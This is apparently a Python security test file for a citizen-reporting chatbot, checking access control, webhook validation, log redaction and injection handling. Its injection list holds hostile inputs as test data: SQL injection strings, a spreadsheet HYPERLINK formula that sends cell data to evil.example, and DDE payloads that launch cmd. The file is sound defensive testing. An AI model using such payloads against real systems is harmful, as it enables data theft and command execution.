"""Security tests: what an attacker (or a careless client) can send, and what must hold.

Officials' commands need an official; injection strings are data, stored verbatim; the web
server refuses deep, broken and forged bodies with a 4xx and stores nothing; forged
button data never breaks a conversation; tokens never reach a log line.
(Signatures, the 3 MB cap and formula neutralisation in exports have their own tests in
test_web.py and test_exports.py.)
"""

from __future__ import annotations

import io
import json
import logging

import pytest
import pytest_asyncio

from bot.logs import RedactSecrets, setup_logging
from storage.database import location
from tests import dbtools
from tests.drivers_web import TELEGRAM_SECRET
from tests.fakes import PHONE_ID, sign, wa_text_message
from tests.harness import Resident
from tests.scenarios import ROAD

SAVED = "sudah kami terima"


def rows(db_path, sql: str, params: tuple = ()) -> list[tuple]:
    with dbtools.connect(db_path) as conn:
        return conn.execute(sql, params).fetchall()


async def submit(resident: Resident, text: str) -> str:
    """A whole report; returns the tracking code shown to the resident."""
    if not resident.transcript:
        await resident.say("halo")
        await resident.press("Setuju")
    await resident.command("lapor")
    await resident.say(text)
    if resident.last_buttons and any("Ya, benar" in b.label for b in resident.last_buttons.buttons):
        await resident.press("Ya, benar")
    else:
        await resident.press_payload(resident.last_buttons.buttons[0].payload)
    await resident.press("Bendo")
    if any("beda" in b.label for b in resident.last_buttons.buttons):
        await resident.press("beda")
    await resident.press("Lewati")
    await resident.press("Anonim")
    answers = await resident.press("Ya, kirim")
    assert SAVED in answers[0].text, answers[0].text
    return answers[0].text.split("Kode pelacakan: ")[1].split()[0]


# --------------------------------------------------------------------------------------------
# Officials' commands
# --------------------------------------------------------------------------------------------


@pytest_asyncio.fixture
async def officials_services(make_settings):
    from bot.app import open_services

    # The flood guard is off: these tests type many commands in a second on purpose.
    async with open_services(make_settings(officials="telegram:9001", flood_max_messages=10**9)) as services:
        yield services


OFFICIAL_TRIES = [
    ("baru", ""),
    ("lihat", "{code}"),
    ("status", "{code} selesai"),
    ("balas", "{code} sudah diperbaiki"),
    ("pilar", "{code} economy"),
    ("sembunyikan", "{code}"),
    ("ekspor", "csv"),
    ("statistik", ""),
    ("new", ""),
    ("view", "{code}"),
    ("hide", "{code}"),
    ("export", "csv"),
]


async def test_officials_commands_from_a_non_official_are_refused(officials_services):
    """A resident typing an official's command (even with a real code) is refused politely;
    typed without the slash it is not a command at all; the submission is untouched."""
    path = location(officials_services.settings)
    owner = Resident(officials_services.core, user_id="1001")
    code = await submit(owner, ROAD)
    before = rows(path, "SELECT status, pillar, hidden, status_note FROM submissions")
    intruder = Resident(officials_services.core, user_id="1002")
    await intruder.say("halo")
    await intruder.press("Setuju")
    for command, args in OFFICIAL_TRIES:
        args = args.format(code=code)
        text = " ".join(a.text for a in await intruder.command(command, args))
        assert "hanya untuk petugas" in text, (command, text)
        # Typed without the slash, an official's word is just a resident's words.
        text = " ".join(a.text for a in await intruder.say(f"{command} {args}".strip()))
        assert "petugas" not in text or "hanya untuk petugas" in text, (command, text)
    assert rows(path, "SELECT status, pillar, hidden, status_note FROM submissions") == before
    assert rows(path, "SELECT count(*) FROM outbox")[0][0] == 0


async def test_the_same_user_id_on_another_channel_is_not_an_official(officials_services):
    """Officials are (channel, id): WhatsApp number 9001 is not Telegram user 9001."""
    spoof = Resident(officials_services.core, user_id="9001", channel="whatsapp")
    await spoof.say("halo")
    await spoof.press("Setuju")
    answers = await spoof.say("/baru")
    assert "hanya untuk petugas" in answers[0].text


# --------------------------------------------------------------------------------------------
# Injection strings are data
# --------------------------------------------------------------------------------------------

INJECTIONS = [
    "Robert'); DROP TABLE submissions;-- jalan rusak parah di depan sekolah",
    'jalan rusak" OR 1=1; -- UNION SELECT token FROM users; banjir di gang',
    '=HYPERLINK("http://evil.example/?"&A1,"klik") jalan rusak berlubang',
    "+cmd|' /C calc'!A0 lampu jalan mati di perempatan pasar",
    "@SUM(1+1)*cmd|' /C calc'!A0 sampah menumpuk di sungai",
    "<script>alert(1)</script> <b>jalan</b> rusak &amp; berlubang besar",
]


async def test_injection_strings_are_stored_verbatim_and_harmless(services):
    path = location(services.settings)
    tables = dbtools.tables(path)
    for i, text in enumerate(INJECTIONS):
        resident = Resident(services.core, user_id=f"10{i}")
        code = await submit(resident, text)
        assert rows(path, "SELECT text FROM submissions WHERE code = ?", (code.replace("-", ""),)) == [(text,)]
        answers = await resident.command("status", code)
        assert code in answers[0].text
    assert dbtools.tables(path) == tables
    assert rows(path, "SELECT count(*) FROM submissions") == [(len(INJECTIONS),)]


async def test_injection_in_a_tracking_code_is_a_bad_code(officials_services):
    services = officials_services
    resident = Resident(services.core, user_id="1001")
    await submit(resident, ROAD)
    for raw in ["'; DROP TABLE submissions;--", "ABC' OR '1'='1", "%", "_", "ABC-DE%", "\x00ABCDEF", "AB%DEF"]:
        answers = await resident.command("status", raw)
        # One word: not a code. Several words: "status CODE note" is an official's command.
        assert "kode" in answers[0].text.lower() or "hanya untuk petugas" in answers[0].text, raw
    assert rows(location(services.settings), "SELECT count(*) FROM submissions") == [(1,)]


# --------------------------------------------------------------------------------------------
# Oversized and odd texts
# --------------------------------------------------------------------------------------------


async def test_an_oversized_description_is_refused_with_its_length_and_nothing_is_saved(services):
    resident = Resident(services.core, user_id="1001")
    await resident.say("halo")
    await resident.press("Setuju")
    await resident.command("lapor")
    answers = await resident.say("jalan rusak " * 20_000)
    assert "terlalu panjang" in answers[0].text.lower() or "4000" in answers[0].text
    await resident.say(ROAD)  # the step was kept: a shorter text goes on
    assert rows(location(services.settings), "SELECT count(*) FROM submissions") == [(0,)]
    assert "pilar" in resident.transcript[-1].text.lower()


async def test_text_with_a_lone_surrogate_gets_an_answer(services):
    resident = Resident(services.core, user_id="1001")
    await resident.say("halo")
    await resident.press("Setuju")
    await resident.command("lapor")
    answers = await resident.say("jalan \ud800 rusak parah di depan rumah saya")
    assert answers


# --------------------------------------------------------------------------------------------
# Forged button data (a modified Telegram client can send any callback_data)
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["pagex", "page²", "²"])
async def test_forged_area_button_for_the_current_step_gets_a_polite_answer(services, value):
    resident = Resident(services.core, user_id="1001")
    await resident.say("halo")
    await resident.press("Setuju")
    await resident.command("lapor")
    await resident.say(ROAD)
    await resident.press("Ya, benar")
    scope = resident.last_buttons.buttons[0].payload.split(":")[0]  # area.<serial>
    answers = await resident.press_payload(f"{scope}:{value}")
    assert answers and "kecamatan" in answers[-1].text.lower()


# --------------------------------------------------------------------------------------------
# Webhooks: deep, broken or forged bodies
# --------------------------------------------------------------------------------------------


# One bot per channel for the whole module (start-up costs seconds); each test counts
# what changed rather than assuming an empty database.
on_bot = pytest.mark.asyncio(loop_scope="module")


def inbound_count(db_path) -> int:
    return rows(db_path, "SELECT count(*) FROM inbound")[0][0]


@on_bot
async def test_deeply_nested_json_is_a_400_on_both_webhooks(wa_bot, tg_bot):
    before = inbound_count(wa_bot.db_path)
    deep = b"[" * 200_000 + b"]" * 200_000
    response = await wa_bot.post(deep)
    assert response.status_code == 400
    assert inbound_count(wa_bot.db_path) == before
    response = await tg_bot.post(b'{"update_id": 1, "message": ' + deep + b"}")
    assert response.status_code == 400


@on_bot
async def test_moderately_nested_json_is_a_400(wa_bot):
    nested: object = "x"
    for _ in range(500):
        nested = {"a": nested}
    before = inbound_count(wa_bot.db_path)
    response = await wa_bot.post({"object": "whatsapp_business_account", "entry": nested})
    assert response.status_code == 400
    assert inbound_count(wa_bot.db_path) == before


@on_bot
async def test_invalid_utf8_bodies_are_400_and_store_nothing(wa_bot, tg_bot):
    before = inbound_count(wa_bot.db_path)
    body = b'{"object": "whatsapp_business_account", "entry": [\xff\xfe]}'
    assert (await wa_bot.post(body)).status_code == 400
    assert (await tg_bot.post(b'{"update_id": 5, "message": "\xc3\x28"}')).status_code == 400
    assert inbound_count(wa_bot.db_path) == before


@on_bot
async def test_a_signed_body_with_a_lone_surrogate_is_not_a_500(wa_bot):
    body = json.dumps(wa_text_message("6281234567890", "jalan \ud800 rusak")).encode()
    response = await wa_bot.post(body)
    assert response.status_code in (200, 400)


@pytest.mark.parametrize(
    "value",
    [
        {"metadata": True},
        {"metadata": {"phone_number_id": PHONE_ID}, "messages": 5},
        {"metadata": {"phone_number_id": PHONE_ID}, "contacts": 7, "messages": []},
    ],
)
@on_bot
async def test_signed_envelopes_with_wrong_types_are_400(wa_bot, value):
    body = {
        "object": "whatsapp_business_account",
        "entry": [{"id": "1", "changes": [{"field": "messages", "value": {"messaging_product": "whatsapp", **value}}]}],
    }
    response = await wa_bot.post(body)
    assert response.status_code in (200, 400)


@pytest.mark.parametrize("secret", [None, "", "wrong", TELEGRAM_SECRET + "x", TELEGRAM_SECRET.upper()])
@on_bot
async def test_telegram_webhook_without_the_exact_secret_is_refused_and_nothing_happens(tg_bot, secret):
    update = tg_bot.fake.make_update_text(4242, "halo")
    response = await tg_bot.post(update, secret=secret)
    assert response.status_code == 403
    assert tg_bot.fake.sent_to(4242) == []
    assert rows(tg_bot.db_path, "SELECT count(*) FROM inbound WHERE message_id LIKE 'm4242:%'") == [(0,)]


@on_bot
async def test_a_signature_made_with_another_secret_is_refused(wa_bot):
    body = json.dumps(wa_text_message("6281234567890", "halo")).encode()
    before = inbound_count(wa_bot.db_path)
    response = await wa_bot.post(body, secret=None, headers={"X-Hub-Signature-256": sign(body, "not-the-app-secret")})
    assert response.status_code == 403
    assert inbound_count(wa_bot.db_path) == before


# --------------------------------------------------------------------------------------------
# Secrets never reach the logs
# --------------------------------------------------------------------------------------------

SECRETS = {
    "telegram_bot_token": "987654321:AAH-secretsecretsecretsecretsecret_x",
    "telegram_webhook_secret": "tg_webhook_secret_0123456789",
    "whatsapp_access_token": "EAAGsecretaccesstoken0123456789abcdef",
    "whatsapp_app_secret": "app-secret-0123456789abcdef",
    "whatsapp_verify_token": "verify-token-0123456789",
    "smtp_password": "smtp-password-0123456789",
}


def test_every_configured_secret_is_scrubbed_from_messages_args_and_tracebacks(make_settings):
    settings = make_settings(
        **SECRETS,
        telegram_mode="webhook",
        telegram_webhook_url="https://suarawarga.test/webhook/telegram",
        whatsapp_phone_number_id="1234567890",
    )
    assert set(settings.secrets()) == set(SECRETS.values())
    root = logging.getLogger()
    saved = (list(root.handlers), root.level)
    buffer = io.StringIO()
    setup_logging("DEBUG", settings.secrets(), stream=buffer)
    log = logging.getLogger("suarawarga.test")
    try:
        for secret in SECRETS.values():
            log.info("calling https://api.telegram.org/bot%s/sendMessage", secret)
            log.warning("header Authorization: Bearer " + secret)
            log.error("dict %r", {"token": secret})
            try:
                raise RuntimeError(f"request failed for {secret}")
            except RuntimeError:
                log.exception("failure")
        # A token of another bot (not configured) in a URL is scrubbed by shape.
        log.info("POST https://api.telegram.org/bot111222333:ZZZ-othertokenothertokenothertoken1/getMe")
    finally:
        root.handlers[:] = saved[0]
        root.setLevel(saved[1])
    logged = buffer.getvalue()
    assert logged.count("[redacted]") >= 4 * len(SECRETS)
    for secret in SECRETS.values():
        assert secret not in logged
    assert "othertokenothertoken" not in logged


def test_redaction_survives_a_record_whose_message_cannot_be_formatted():
    """A malformed log call must neither crash logging nor leak the argument."""
    secret = "EAAGsecretaccesstoken0123456789abcdef"
    record = logging.LogRecord("x", logging.INFO, __file__, 1, "token %s %s", (secret, "b"), None)
    RedactSecrets([secret]).filter(record)
    assert secret not in record.getMessage()


# --------------------------------------------------------------------------------------------
# Refusals cannot flood the log
# --------------------------------------------------------------------------------------------


@on_bot
async def test_a_flood_of_forged_webhooks_writes_at_most_one_warning_a_minute(wa_bot, caplog):
    """Fifty forged signatures in a row: all refused, at most one WARNING line about them
    (before: fifty)."""
    body = json.dumps(wa_text_message("6281234567890", "halo")).encode()
    with caplog.at_level(logging.WARNING, logger="bot.web"):
        for _ in range(50):
            response = await wa_bot.post(body, secret="forged-secret")
            assert response.status_code == 403
    lines = [r for r in caplog.records if r.name == "bot.web" and "wrong signature" in r.getMessage()]
    assert len(lines) <= 1


def test_the_refusal_log_counts_what_it_did_not_write():
    """The first refusal of a kind is logged; the next line, a minute later, says how many
    came in between; another kind has its own minute."""
    from bot.web import RefusalLog

    now = [1000.0]
    stream = io.StringIO()
    logger = logging.getLogger("test.refusals")
    logger.propagate = False
    handler = logging.StreamHandler(stream)
    logger.addHandler(handler)
    try:
        refusals = RefusalLog(logger, interval=60, clock=lambda: now[0])
        for _ in range(10):
            refusals.warning("bad-signature", "refused a webhook with a wrong signature")
            now[0] += 1
        refusals.warning("unsigned", "refused a webhook without a signature")
        now[0] += 60
        refusals.warning("bad-signature", "refused a webhook with a wrong signature")
    finally:
        logger.removeHandler(handler)
    assert stream.getvalue().splitlines() == [
        "refused a webhook with a wrong signature",
        "refused a webhook without a signature",
        "refused a webhook with a wrong signature (and 9 more since the last such line)",
    ]
